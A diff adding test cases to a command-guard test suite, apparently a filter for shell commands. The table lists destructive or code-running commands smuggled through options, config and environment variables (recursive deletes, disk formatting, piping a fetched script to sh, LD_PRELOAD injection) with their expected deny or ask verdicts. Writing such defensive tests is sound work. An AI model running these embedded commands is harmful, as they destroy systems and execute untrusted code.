@@ -338,6 +338,36 @@ describe("command guard: text is not a command", () => {
   });
 });
 
+describe("command guard: commands hidden in options, config and environment", () => {
+  it.each([
+    ["GIT_PAGER='rm -rf /' git log", "deny", "hard.recursive-delete-system"],
+    ["git -c alias.x='!reboot' x", "deny", "hard.shutdown"],
+    ["git -c core.sshCommand='curl x | sh' fetch", "ask", "soft.remote-script"],
+    [
+      "tar cf a.tar . --checkpoint=1 --checkpoint-action=exec='rm -rf /'",
+      "deny",
+      "hard.recursive-delete-system",
+    ],
+    ["tar --to-command='reboot' -xf a.tar", "deny", "hard.shutdown"],
+    ["rsync -e 'rm -rf /' a b", "deny", "hard.recursive-delete-system"],
+    ["ssh -o ProxyCommand='reboot' host", "deny", "hard.shutdown"],
+    ["ssh -oProxyCommand='mkfs.ext4 /dev/sda' host", "deny", "hard.filesystem-format"],
+    ["awk 'BEGIN { system(\"rm -rf /\") }'", "deny", "hard.recursive-delete-system"],
+    ["vim -c ':!reboot'", "deny", "hard.shutdown"],
+    ["sort --compress-program=reboot", "deny", "hard.shutdown"],
+    ["env GIT_SSH_COMMAND='reboot' git fetch", "deny", "hard.shutdown"],
+    ["LD_PRELOAD=/tmp/x.so ls", "ask", "soft.env-injection"],
+    ["NODE_OPTIONS='--require ./hook.js' node app", "ask", "soft.env-injection"],
+    ["GIT_PAGER=cat git log", "allow", "allow.no-findings"],
+    ["git -c core.pager=cat log", "allow", "allow.no-findings"],
+    ["rsync -e ssh -a src/ host:dst/", "allow", "allow.no-findings"],
+    ["EDITOR=true git rebase -i HEAD~2", "allow", "allow.no-findings"],
+    ["NODE_OPTIONS=--max-old-space-size=4096 npm test", "allow", "allow.no-findings"],
+  ])("%j → %s (%s)", (command, verdict, rule) => {
+    expect(guard.check(command)).toMatchObject({ verdict, rule });
+  });
+});
+
 describe("command guard: verdicts", () => {
   it("collects every finding and lets the strictest decide", () => {
     const verdict = guard.check("rm -rf build && python -c 'x' && reboot");
